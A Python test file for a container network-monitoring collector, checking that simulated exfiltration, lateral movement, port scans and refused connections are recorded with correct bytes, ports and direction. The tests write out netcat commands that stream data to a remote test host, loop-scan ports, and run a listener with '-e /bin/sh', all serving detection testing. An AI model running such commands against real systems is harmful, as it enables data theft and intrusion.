"""Who talks with whom: bytes, ports, and where the other end is."""

from __future__ import annotations

import contextlib
import socket
import uuid
from collections.abc import Iterator

import pytest
from docker.models.networks import Network
from pyroute2 import netns

from infra.demo.remote import RemoteHosts
from models.records.facts import (
    Connection,
    Direction,
    Interface,
    Listen,
)
from tests.docker.collecting import Collecting, seen, sh
from tests.fixtures_docker import TestEngine


@pytest.fixture(scope="module")
def remote() -> Iterator[RemoteHosts]:
    with RemoteHosts(uuid.uuid4().hex[:8], hosts=(9,), ports=(443, 444)) as hosts:
        yield hosts


def test_bytes_to_a_remote_host_are_told_with_its_address_and_port(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """Exfiltration is known by how much went to whom, seen behind the host's translation."""
    container = docker_engine.run(image)
    far = remote.address(9)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")
    before = remote.received_bytes(9)

    sh(container, f"head -c 3000000 /dev/zero | nc {far} 443 >/dev/null")

    def sent() -> int:
        found = collecting.of(container.id, Connection)
        return sum(one.sent_bytes for one in found if (one.peer, one.port) == (far, 443))

    collecting.until(lambda: sent() >= 3_000_000, f"3 MB to {far}:443")
    assert remote.received_bytes(9) - before == 3_000_000
    assert sent() < 3_300_000  # headers and acknowledgements, no more
    one = collecting.of(container.id, Connection)[0]
    assert (one.direction, one.protocol, one.answered) == (Direction.EGRESS, "tcp", True)
    assert sum(one.opened for one in collecting.of(container.id, Connection)) == 1
    assert max(row["network_transmit_bytes_per_s"] for row in seen(collecting, container)) > 1e5


def serving(port: int) -> list[str]:
    """A command that takes what anybody sends to a port."""
    return ["/bin/nc", "-ll", "-p", str(port), "-e", "/bin/sh", "-c", "cat >/dev/null"]


def call_from(remote: RemoteHosts, address: str, port: int, body: bytes) -> None:
    """Send something from the remote host; its socket stays in its namespace."""
    netns.pushns(remote.namespace)
    try:
        connection = socket.create_connection((address, port), timeout=10)
    finally:
        netns.popns()
    with connection:
        connection.sendall(body)


def test_a_flow_between_two_containers_is_egress_of_one_and_ingress_of_the_other(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Lateral movement has two ends, and both are judged. Two networks: two addresses."""
    first, second = docker_engine.network("east"), docker_engine.network("west")
    server = docker_engine.run(
        image, serving(8080),
        network=first.name,
    )  # fmt: skip  # the options in a line
    second.connect(server)
    client = docker_engine.run(image, network=second.name)
    collecting.until(
        lambda: len(getattr(collecting.entries.get(server.id or ""), "addresses", ())) == 2,
        "both addresses in the inventory",
    )
    server.reload()
    address = server.attrs["NetworkSettings"]["Networks"][second.name]["IPAddress"]
    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")

    sh(client, f"head -c 500000 /dev/zero | nc {address} 8080")

    def ends() -> list[Connection]:
        out = collecting.of(client.id, Connection)
        back = collecting.of(server.id, Connection)
        enough = sum(one.sent_bytes for one in out) >= 500_000
        return [out[0], back[0]] if enough and back else []

    out, back = collecting.until(ends, "the flow from both ends")
    assert (out.direction, out.peer, out.port) == (Direction.EGRESS, address, 8080)
    assert (back.direction, back.port) == (Direction.INGRESS, 8080)
    received = sum(one.received_bytes for one in collecting.of(server.id, Connection))
    assert received == sum(one.sent_bytes for one in collecting.of(client.id, Connection))
    assert [one.port for one in collecting.of(server.id, Listen)] == [8080]


def test_each_of_several_interfaces_is_told_apart(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """What leaves through the network of the backup is not what leaves through the shop's."""
    shop, backup = docker_engine.network("shop"), docker_engine.network("backup")
    alone = docker_engine.run(image, serving(8080), network=backup.name)
    container = docker_engine.run(image, network=shop.name)
    collecting.until(lambda: seen(collecting, container), "samples")
    backup.connect(container)
    alone.reload()
    address = alone.attrs["NetworkSettings"]["Networks"][backup.name]["IPAddress"]
    collecting.until(lambda: collecting.of(alone.id, Listen), "the open port")

    def sent() -> dict[str, int]:
        found: dict[str, int] = {}
        for one in collecting.of(container.id, Interface):
            found[one.interface] = found.get(one.interface, 0) + one.sent_bytes
        return found

    def send() -> int:
        sh(container, f"head -c 300000 /dev/zero | nc {address} 8080")
        return sent().get("eth1", 0)

    collecting.until(lambda: send() >= 300_000, "what went through the second one")
    assert sent().get("eth0", 0) < 50_000
    assert collecting.of(alone.id, Interface) == []  # of one, samples tell all


def test_a_published_port_is_ingress_at_the_containers_own(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """The host's port differs with each deployment; the service behind it does not."""
    server = docker_engine.run(
        image, serving(80),
        ports={"80/tcp": None},
    )  # fmt: skip  # the options in a line
    port = int(server.attrs["NetworkSettings"]["Ports"]["80/tcp"][0]["HostPort"])
    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")

    call_from(remote, remote.address(1), port, b"x" * 100_000)

    def arrived() -> list[Connection]:
        return [
            one for one in collecting.of(server.id, Connection)
            if one.peer == remote.address(9) and one.received_bytes > 0
        ]  # fmt: skip  # a filter

    collecting.until(lambda: sum(o.received_bytes for o in arrived()) >= 100_000, "the visit")
    assert {(one.direction, one.port) for one in arrived()} == {(Direction.INGRESS, 80)}


def test_a_connection_that_nobody_answers_says_so(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """A scan of addresses is mostly silence."""
    container = docker_engine.run(image)
    nobody = remote.address(57)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")

    container.exec_run(["/bin/sh", "-c", f"nc -w 2 {nobody} 22 </dev/null"], detach=True)

    told = collecting.until(
        lambda: [one for one in collecting.of(container.id, Connection) if one.peer == nobody],
        "the unanswered connection",
    )
    assert not told[0].answered


@pytest.fixture
def network(docker_engine: TestEngine, image: str) -> Network:
    """One that is there before the collector is, and stays up: somebody else uses it."""
    made = docker_engine.network("cut")
    docker_engine.run(image, network=made.name)
    return made


def test_connections_that_are_refused_are_told_each(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """A scan of ports: whoever answers that nobody listens makes the kernel forget it at once."""
    container = docker_engine.run(image)
    far, ports = remote.address(9), range(20_001, 20_041)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")

    sh(container, f"for port in $(seq {ports[0]} {ports[-1]}); do nc -w 1 {far} $port; done; true")

    def refused() -> set[int]:
        return {
            one.port for one in collecting.of(container.id, Connection)
            if one.peer == far and not one.answered and one.direction is Direction.EGRESS
        }  # fmt: skip  # a condition a line

    collecting.until(lambda: refused() == {*ports}, "each port")
    opened = [one.opened for one in collecting.of(container.id, Connection) if one.port in ports]
    assert opened == [1] * len(ports)


def test_probes_of_what_was_cut_off_are_not_the_hosts_doing(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, network: Network,
    collecting: Collecting,
) -> None:  # fmt: skip  # one signature
    """An isolation is verified from the host. Told as somebody new that it talks to, our own
    probe would call the host suspect.
    """
    container = docker_engine.run(image, serving(8080), network=network.name)
    address = container.attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"]
    collecting.until(lambda: collecting.of(container.id, Listen), "the open port")
    network.disconnect(container)
    collecting.until(
        lambda: not collecting.entries[str(container.id)].addresses, "that it was cut off"
    )

    with contextlib.suppress(OSError):
        socket.create_connection((address, 8080), timeout=1.0).close()
    unanswered = collecting.sequences[-1] + 2  # is told a look later
    collecting.until(lambda: collecting.sequences[-1] >= unanswered, "the looks after it")
    socket.create_connection((remote.address(9), 444), timeout=10).close()

    def called() -> set[str]:
        return {one.peer for one in collecting.of(collecting.source._subject, Connection)}

    collecting.until(lambda: remote.address(9) in called(), "that the host called somebody else")
    assert address not in called()
